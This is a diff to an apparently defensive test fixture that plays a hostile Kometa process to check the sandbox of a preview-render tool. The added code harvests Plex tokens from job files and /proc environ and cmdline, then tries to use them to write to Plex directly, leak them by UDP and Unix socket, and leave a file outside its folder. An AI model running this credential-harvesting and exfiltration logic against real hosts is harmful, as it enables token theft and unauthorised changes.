@@ -1,12 +1,18 @@
 #!/usr/bin/env python3
 """A hostile Kometa stand-in: run by `kometa-preview render` exactly where Kometa runs (same argv, same
-environment, HTTP(S)_PROXY pointing at the outside-calls port, the job token in kometa_run.yml), it tries
-every side door of issue 10 and writes what came back to HOSTILE_REPORT (JSON). With HOSTILE_THEN_KOMETA=1 it
-then runs the ordinary stand-in, so the render also produces its previews.
+environment, HTTP(S)_PROXY pointing at the outside-calls port, the job token in kometa_run.yml, and — where the
+kernel allows it — in Kometa's box). First it tries to get out of the box: it reads every file of the job folder
+over and over while the proxy starts, every /proc/*/environ and cmdline, preview.yml and the user's Kometa config,
+and with whatever token it found (or none) it writes to the real Plex directly, from a child process, by UDP, and
+over a Unix socket; it fetches `localhost`/`127.0.0.1` URLs the way an overlay `url:` would; it tries to leave a
+file outside its folder. Then it tries every side door of issue 10 through the proxy. It writes what came back
+to `<its config folder>/hostile.json` (the one folder it may write). With HOSTILE_THEN_KOMETA=1 it then runs the
+ordinary stand-in, so the render also produces its previews.
 
 Hooks (baked into a wrapper by the test; Kometa's environment is an allowlist): HOSTILE_PLEX_URL (the real
-Plex, as an attacker on the machine would know it), HOSTILE_REPORT, HOSTILE_THEN_KOMETA, HOSTILE_BULK=0 to
-skip the 20 × 63 MiB uploads.
+Plex, as an attacker on the machine would know it), HOSTILE_FILES (files to read, `:`-separated),
+HOSTILE_UDP_PORT and HOSTILE_UNIX_SOCKET (where the test listens for what leaks), HOSTILE_OUTSIDE_FILE (a file
+to try to leave), HOSTILE_THEN_KOMETA, HOSTILE_BULK=0 to skip the 20 × 63 MiB uploads.
 """
 from __future__ import annotations
 
@@ -16,12 +22,15 @@ import os
 import re
 import runpy
 import socket
+import subprocess
+import sys
 import threading
 import time
 from pathlib import Path
 from urllib.parse import quote, urlsplit
 
 import brotli
+import requests
 import yaml
 
 STANDIN = Path(__file__).parent / "kometa_standin" / "kometa.py"
@@ -227,6 +236,109 @@ def cmdlines() -> list[str]:
     return found
 
 
+def _read(path: Path, limit: int = 1 << 20) -> str | None:
+    try:
+        with open(path, "rb") as handle:
+            return handle.read(limit).decode("utf-8", "replace")
+    except OSError:
+        return None
+
+
+def harvest(job: Path, extra: list[str], seconds: float) -> list[dict]:
+    """Everything within reach that might hold the Plex token: every file of the job folder, read again and again
+    for `seconds` (the proxy is still starting: a file it reads once and deletes would be caught), every process's
+    environ and command line, and the files named."""
+    found: dict[tuple[str, str], dict] = {}
+
+    def keep(where: str, text: str | None) -> None:
+        if text:
+            found.setdefault((where, text), {"where": where, "text": text[:200_000]})
+
+    deadline = time.monotonic() + seconds
+    while True:
+        for path in job.rglob("*"):
+            if path.is_file() and path.suffix not in (".jpg", ".png", ".webp", ".bin"):
+                keep(str(path), _read(path))
+        if time.monotonic() > deadline:
+            break
+        time.sleep(0.01)
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            for name in ("environ", "cmdline"):
+                keep(f"/proc/{entry.name}/{name}", _read(entry / name))
+    for name in extra:
+        keep(name, _read(Path(name)))
+    return list(found.values())
+
+
+TOKEN_PATTERNS = [rb"token[\"']?\s*[:=]\s*[\"']?([A-Za-z0-9_\-]{8,})", rb"PLEX_TOKEN=([A-Za-z0-9_\-]{8,})",
+                  rb"X-Plex-Token=([A-Za-z0-9_\-]{8,})"]
+
+
+def candidate_tokens(texts: list[dict]) -> list[str]:
+    found = {""}
+    for item in texts:
+        for pattern in TOKEN_PATTERNS:
+            found |= {m.decode() for m in re.findall(pattern, item["text"].encode("utf-8", "replace"))}
+    return sorted(found)
+
+
+WRITE = ("PUT /library/sections/1/all?type=1&id=1001&title.value=HOSTILE&hostile=1 HTTP/1.1\r\nHost: plex\r\n"
+         "X-Plex-Token: {token}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+CHILD = """import socket, sys
+host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+try:
+    with socket.create_connection((host, port), timeout=3) as sock:
+        sock.sendall(sys.argv[4].replace("{token}", token).encode())
+        print(sock.recv(100).decode("latin-1").split("\\r\\n")[0])
+except OSError as exc:
+    print(type(exc).__name__, exc)
+"""
+
+
+def escape(plex: tuple[str, int], tokens: list[str], proxy_port: int) -> list[dict]:
+    """Writes to the real Plex that skip the proxy: directly, from a child process, by UDP, over a Unix socket;
+    `localhost` URLs fetched the way an overlay `url:` is; a file left outside the job."""
+    attempts: list[dict] = []
+    for token in tokens:
+        for host in ("127.0.0.1", "localhost", plex[0]):
+            attempts.append({"door": "box", "what": f"PUT to {host}:{plex[1]} directly",
+                             **exchange((host, plex[1]), WRITE.format(token=token).encode(), timeout=3)})
+        child = subprocess.run([sys.executable, "-c", CHILD, plex[0], str(plex[1]), token, WRITE],
+                               capture_output=True, text=True, timeout=30)
+        attempts.append({"door": "box", "what": "PUT from a child process", "answer": child.stdout.strip()})
+        if os.environ.get("HOSTILE_UDP_PORT"):
+            try:
+                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
+                    udp.sendto(f"token={token}".encode(), ("127.0.0.1", int(os.environ["HOSTILE_UDP_PORT"])))
+                attempts.append({"door": "box", "what": "UDP datagram out", "error": None})
+            except OSError as exc:
+                attempts.append({"door": "box", "what": "UDP datagram out", "error": type(exc).__name__})
+    if os.environ.get("HOSTILE_UNIX_SOCKET"):
+        try:
+            with socket.socket(socket.AF_UNIX) as unix:
+                unix.connect(os.environ["HOSTILE_UNIX_SOCKET"])
+                unix.sendall(b"hostile")
+            attempts.append({"door": "box", "what": "Unix socket", "error": None})
+        except OSError as exc:
+            attempts.append({"door": "box", "what": "Unix socket", "error": type(exc).__name__})
+    for url in (f"http://localhost:{plex[1]}/identity?hostile=1", f"http://127.0.0.1:{plex[1]}/identity?hostile=1",
+                f"http://localhost:{proxy_port}/identity?hostile=1"):
+        try:  # as an overlay's `url:` is fetched: requests, with the environment's proxies
+            status = requests.get(url, timeout=5).status_code
+        except requests.RequestException as exc:
+            status = type(exc).__name__
+        attempts.append({"door": "box", "what": f"GET {url} (requests, proxies from the environment)",
+                         "status": status})
+    if os.environ.get("HOSTILE_OUTSIDE_FILE"):
+        try:
+            Path(os.environ["HOSTILE_OUTSIDE_FILE"]).write_text("left behind by Kometa")
+            attempts.append({"door": "box", "what": "a file outside the job", "error": None})
+        except OSError as exc:
+            attempts.append({"door": "box", "what": "a file outside the job", "error": type(exc).__name__})
+    return attempts
+
+
 def main() -> int:
     parser = argparse.ArgumentParser(prog="kometa.py")
     parser.add_argument("--config", required=True)
@@ -237,13 +349,18 @@ def main() -> int:
     token = config["plex"]["token"]
     outside = urlsplit(os.environ["HTTPS_PROXY"])
     plex = urlsplit(os.environ["HOSTILE_PLEX_URL"])
-    report = {"environment": dict(os.environ), "cmdlines": cmdlines()}
-    report["attempts"] = outside_door((outside.hostname, outside.port), (plex.hostname, plex.port))
+    job = Path(args.config).resolve().parent.parent
+    extra = [name for name in os.environ.get("HOSTILE_FILES", "").split(":") if name]
+    harvested = harvest(job, extra, 1.5)
+    report = {"environment": dict(os.environ), "cmdlines": cmdlines(), "harvest": harvested,
+              "pids": sorted(int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit())}
+    report["attempts"] = escape((plex.hostname, plex.port), candidate_tokens(harvested), reverse.port)
+    report["attempts"] += outside_door((outside.hostname, outside.port), (plex.hostname, plex.port))
     attempts, keys = reverse_door((reverse.hostname, reverse.port), token)
     report["attempts"] += attempts
     report["rating_keys_seen"] = sorted(keys)
     report["attempts"] += exhaustion((reverse.hostname, reverse.port), token, os.environ.get("HOSTILE_BULK") != "0")
-    Path(os.environ["HOSTILE_REPORT"]).write_text(json.dumps(report, indent=1), encoding="utf-8")
+    (Path(args.config).parent / "hostile.json").write_text(json.dumps(report, indent=1), encoding="utf-8")
     print("| hostile stand-in: every door tried", flush=True)
     if os.environ.get("HOSTILE_THEN_KOMETA") == "1":
         runpy.run_path(str(STANDIN), run_name="__main__")
